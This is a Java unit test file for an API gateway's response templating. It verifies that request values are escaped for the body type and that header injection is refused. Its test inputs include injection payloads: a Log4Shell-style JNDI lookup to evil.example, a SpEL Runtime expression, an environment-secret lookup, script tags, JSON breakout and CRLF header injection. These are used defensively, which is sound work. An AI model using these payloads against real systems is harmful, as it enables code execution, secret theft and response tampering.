package dev.gatehouse.engine.target.respond;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.gatehouse.api.config.JsonText;
import dev.gatehouse.engine.config.RespondConfig;
import dev.gatehouse.engine.target.AskedClient;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RespondTargetTest {
    @Test
    void an_answer_may_be_a_status_alone() {
        AskedClient client = ask(RespondConfig.of(403));
        assertThat(client.answer().status()).isEqualTo(403);
        assertThat(client.header("Content-Type")).isNull();
        assertThat(client.body()).isEmpty();
    }

    @Test
    void text_is_plain_text_filled_with_facts() {
        AskedClient client = ask(text("Hello <{query.name}>, not {{here}}"), "query.name", "Ann");
        assertThat(client.header("Content-Type")).isEqualTo("text/plain; charset=utf-8");
        assertThat(client.body()).isEqualTo("Hello <Ann>, not {here}");
    }

    @Test
    void in_json_the_texts_are_filled_and_a_value_stays_text() {
        RespondConfig config = new RespondConfig(
                200, null, new JsonText("{\"id\":\"{id}\",\"items\":[{\"q\":\"{query.q}\"}]}"), null, Map.of());
        AskedClient client =
                AskedClient.asking("/x/7").parameter("id", "7").fact("query.q", "\"}],\"admin\":true,\"\\");
        RespondTarget.of(config, null).start(client);
        assertThat(client.header("Content-Type")).isEqualTo("application/json");
        assertThat(client.body())
                .isEqualTo("{\"id\":\"7\",\"items\":[{\"q\":\"\\\"}],\\\"admin\\\":true,\\\"\\\\\"}]}");
    }

    @ParameterizedTest
    @CsvSource({
        "text/html,                       <p>{query.q}</p>,   <p>&lt;script&gt;</p>",
        "Application/XHTML+XML; charset=utf-8, <p>{query.q}</p>, <p>&lt;script&gt;</p>",
        "application/problem+json,        \"{query.q}\",      \"<script>\"",
        "text/plain,                      {query.q},          <script>",
    })
    void a_value_is_encoded_for_the_type_of_the_body(String type, String body, String expected) {
        AskedClient client =
                ask(new RespondConfig(200, body, null, null, Map.of("content-type", type)), "query.q", "<script>");
        assertThat(client.header("Content-Type")).isEqualTo(type);
        assertThat(client.body()).isEqualTo(expected);
    }

    @Test
    void into_a_type_without_known_rules_no_value_goes() {
        assertThatThrownBy(() -> RespondTarget.of(
                        new RespondConfig(
                                200, "var a = '{query.q}'", null, null, Map.of("Content-Type", "text/javascript")),
                        null))
                .hasMessageStartingWith(
                        "body: values of the request can be inserted into plain text, JSON, HTML and XML");
    }

    @Test
    void the_request_does_not_say_what_type_the_answer_is() {
        assertThatThrownBy(() -> RespondTarget.of(
                        new RespondConfig(200, "{query.q}", null, null, Map.of("Content-Type", "{header.accept}")),
                        null))
                .hasMessageStartingWith("headers.Content-Type: ");
    }

    @Test
    void a_file_is_sent_as_it_is() {
        AskedClient client = AskedClient.asking("/");
        RespondTarget.of(
                        new RespondConfig(503, null, null, "pages/Down.HTML", Map.of("Retry-After", "60")),
                        "<style>p { color: red }</style>{query.q}".getBytes(UTF_8))
                .start(client);
        assertThat(client.header("Content-Type")).isEqualTo("text/html; charset=utf-8");
        assertThat(client.header("Retry-After")).isEqualTo("60");
        assertThat(client.body()).isEqualTo("<style>p { color: red }</style>{query.q}");
    }

    @Test
    void a_header_carries_facts_and_never_a_second_header() {
        AskedClient client = ask(
                new RespondConfig(204, null, null, null, Map.of("X-Echo", "<{header.x-a}>")),
                "header.x-a",
                "1\r\nSet-Cookie: a=b");
        assertThat(client.header("X-Echo")).isEqualTo("<1  Set-Cookie: a=b>");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"#{T(java.lang.Runtime)}", "${jndi:ldap://evil.example/a}", "${env:SECRET}", "{query.q}", "{{q}}"
            })
    void a_value_that_looks_like_code_is_answered_as_text(String value) {
        assertThat(ask(text("[{query.q}]"), "query.q", value).body()).isEqualTo("[" + value + "]");
    }

    // What cannot be written

    @Test
    void an_answer_has_one_body() {
        assertThatThrownBy(() -> new RespondConfig(200, "a", new JsonText("1"), null, Map.of()))
                .hasMessage("an answer has one body: give one of body, json and file");
    }

    @ParameterizedTest
    @ValueSource(ints = {204, 304})
    void some_answers_have_none(int status) {
        assertThatThrownBy(() -> new RespondConfig(status, "a", null, null, Map.of()))
                .hasMessage("status: an answer with " + status + " cannot have a body");
    }

    @ParameterizedTest
    @ValueSource(ints = {0, 101, 199, 600})
    void a_status_is_one_that_ends_an_exchange(int status) {
        assertThatThrownBy(() -> RespondConfig.of(status)).hasMessageStartingWith("status: " + status);
    }

    @ParameterizedTest
    @CsvSource({
        "Content-Length, 5",
        "Transfer-Encoding, chunked",
        "Connection, close",
        "X-Request-Id, 1",
        "Gatehouse-Error, NO",
        "not a name, 1",
        "X-A, {",
    })
    void a_header_the_gateway_writes_or_nobody_can_is_refused(String name, String value) {
        assertThatThrownBy(() -> new RespondConfig(200, null, null, null, Map.of(name, value)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageStartingWith("headers." + name + ": ");
    }

    @Test
    void a_line_end_in_a_header_is_refused() {
        assertThatThrownBy(() -> new RespondConfig(200, null, null, null, Map.of("X-A", "1\r\nX-B: 2")))
                .hasMessageStartingWith("headers.X-A: a header value cannot hold a line end");
    }

    private static RespondConfig text(String body) {
        return new RespondConfig(200, body, null, null, Map.of());
    }

    private static AskedClient ask(RespondConfig config) {
        AskedClient client = AskedClient.asking("/");
        RespondTarget.of(config, null).start(client);
        return client;
    }

    private static AskedClient ask(RespondConfig config, String fact, String value) {
        AskedClient client = AskedClient.asking("/").fact(fact, value);
        RespondTarget.of(config, null).start(client);
        return client;
    }
}
